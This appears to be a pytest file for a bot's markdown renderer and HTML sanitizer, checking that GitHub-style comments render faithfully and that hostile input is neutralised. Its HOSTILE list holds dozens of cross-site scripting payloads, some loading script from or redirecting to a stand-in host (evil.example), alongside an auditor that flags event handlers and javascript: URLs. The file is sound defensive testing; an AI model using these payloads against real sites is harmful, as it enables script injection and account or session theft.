"""Comments as GitHub shows them, and what strangers put into them."""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from bot.sandbox.markdown import render_markdown
from bot.sandbox.sanitizer import sanitize

GOLDEN = Path(__file__).parents[2] / "golden" / "comment"
VOID = ("br", "hr", "img", "input")


class Audit(HTMLParser):
    """Reads HTML strictly: everything open is closed in order, nothing is active."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.open: list[str] = []
        self.tags: set[str] = set()
        self.problems: list[str] = []
        self.feed(html)
        self.close()
        self.problems += [f"<{tag}> stays open" for tag in self.open]

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        if tag not in VOID:
            self.open.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in (
                "style",
                "id",
                "srcdoc",
                "formaction",
                "xlink:href",
            ):
                self.problems.append(f"<{tag} {name}>")
            squeezed = "".join(c for c in (value or "") if c > " ").lower()
            active = ("javascript:", "vbscript:", "data:")
            if name in ("href", "src") and squeezed.startswith(active):
                self.problems.append(f"<{tag} {name}={value}>")

    def handle_endtag(self, tag):
        if not self.open or self.open.pop() != tag:
            self.problems.append(f"</{tag}> closes nothing")

    def handle_comment(self, data):
        self.problems.append("a comment")

    def handle_decl(self, decl):
        self.problems.append("a declaration")

    def unknown_decl(self, data):
        self.problems.append("a declaration")

    def handle_pi(self, data):
        self.problems.append("an instruction")


ACTIVE = {
    "script",
    "style",
    "iframe",
    "object",
    "embed",
    "form",
    "svg",
    "math",
    "base",
    "link",
    "meta",
}


def audit(html: str) -> None:
    seen = Audit(html)
    assert seen.problems == []
    assert not seen.tags & ACTIVE


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script",
    "<script>never closed",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img src='javascript:alert(1)'>",
    "<img src=data:text/html;base64,PHNjcmlwdD4=>",
    "<img alt='`\"><script>alert(1)</script>'>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<title></title><img src=x onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><b>",
    "<template><img src=x onerror=alert(1)></template>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<form action=/close method=post><button>Click me</button></form>",
    "<input type=text autofocus onfocus=alert(1)>",
    "<input type=checkbox disabled onfocus=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript&colon;alert(1)'>x</a>",
    "<a href=' \x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:x'>x</a><a href='data:text/html,x'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](&#x6A;avascript:alert(1))",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n[x]",
    '[x](https://a.example "\\" onmouseover=\\"alert(1)")',
    'https://a.example/"onmouseover="alert(1)',
    '```"><script>alert(1)</script>\nx\n```',
    '``` language-x" onmouseover="alert(1)\nx\n```',
    '| <script> | b |\n|:-:"onclick=alert(1)|-|\n| </script> | <img src=x onerror=alert(1)> |',
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<b style='position:fixed;inset:0' id=main class=box onclick=alert(1)>x</b>",
    "<base href=//evil.example><link rel=stylesheet href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "</div></article></main></body></html><h1>mine now",
    "<table><tr><td>open <div><b>and <i>open",
    "</p></b></table><li><td><tr>stray",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<!-- > <script>alert(1)</script> -->",
    "<!--><script>alert(1)</script>-->",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y 'z'>]>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<a\x00 href=x onclick\x00=alert(1)>x</a>",
    "<b/onclick=alert(1)>x",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_in_a_comment_runs_or_breaks_out(text):
    """A comment could otherwise press the page's buttons, or redraw the page."""
    audit(render_markdown(text))
    audit(sanitize(text))


PIECES = st.sampled_from(
    [
        *HOSTILE,
        "<",
        ">",
        '"',
        "'",
        "`",
        "/",
        "=",
        "&",
        "\n",
        "\n\n",
        "x",
        "<b",
        "</b>",
        "<!--",
        "-->",
    ]
)


@settings(max_examples=150)
@given(st.lists(PIECES | st.text(max_size=5), max_size=8).map("".join))
def test_no_mixture_gets_through_and_cleaning_twice_changes_nothing(text):
    """The hole that nobody thought of lies between two tricks that were thought of."""
    clean = sanitize(text)
    audit(clean)
    assert sanitize(clean) == clean
    audit(render_markdown(text))


def test_what_a_script_says_is_not_read_out_as_text():
    """A reader would see code that GitHub does not show."""
    assert sanitize("a<style>p { color: red }</style>b<script>c()</script>d") == "abd"


def test_a_hostile_comment_of_full_length_is_shown_in_time():
    """One comment could otherwise hold up everybody's page."""
    html = render_markdown("<div><b>" * 8000)
    assert html.count("<div>") + html.count("<b>") == 60


def test_a_table_is_aligned_without_a_style():
    """The page's policy forbids styles: every number would stand on the left."""
    html = render_markdown("| a | b |\n|:--|--:|\n| 1 | 2 |")
    assert '<th align="right">b</th>' in html
    assert '<td align="left">1</td>' in html
    assert "style" not in html


def test_a_fold_holds_markdown():
    """Covgate's comment folds tables away; as raw text nobody would read them."""
    html = render_markdown("<details><summary>More</summary>\n\n| a |\n|--|\n| b |\n\n</details>")
    assert html.startswith("<details><summary>More</summary>")
    assert "<td>b</td>" in html
    assert html.rstrip().endswith("</details>")


@pytest.mark.parametrize(
    ("text", "part"),
    [
        ("~~no~~ <sub>small</sub> <kbd>x</kbd>", "<s>no</s> <sub>small</sub> <kbd>x</kbd>"),
        ("one\ntwo", "one<br>\ntwo"),
        ("- [ ] open", '<li><input type="checkbox" disabled=""> open</li>'),
        ("- [x] done", '<li><input type="checkbox" disabled="" checked=""> done</li>'),
        ("```yaml\na: 1\n```", '<pre><code class="language-yaml">a: 1\n</code></pre>'),
        ("<!-- covgate -->\nHello", "<p>Hello</p>"),
        ("[a](/x?y=1&z=2)", '<a href="/x?y=1&amp;z=2" rel="nofollow noopener">a</a>'),
        (
            "See https://a.example/b).",
            '<a href="https://a.example/b" rel="nofollow noopener">https://a.example/b</a>).',
        ),
        ("`https://a.example`", "<code>https://a.example</code>"),
    ],
)
def test_a_comment_looks_as_on_github(text, part):
    """What is written for GitHub could not be judged here if it looked otherwise."""
    assert part in render_markdown(text)


@pytest.mark.parametrize("path", sorted(GOLDEN.glob("*.md")), ids=lambda path: path.stem)
def test_covgates_own_comments_lose_nothing(path):
    """The sandbox would show less than GitHub does."""
    text = path.read_text(encoding="utf-8")
    html = render_markdown(text)
    audit(html)
    assert html.count("<tr>") == sum(
        line.startswith("|") and not line.startswith("|:") for line in text.splitlines()
    )
    assert html.count("<a ") == text.count("](https://")
    assert html.count("<details>") == text.count("<details>")
    assert "covgate --" not in html
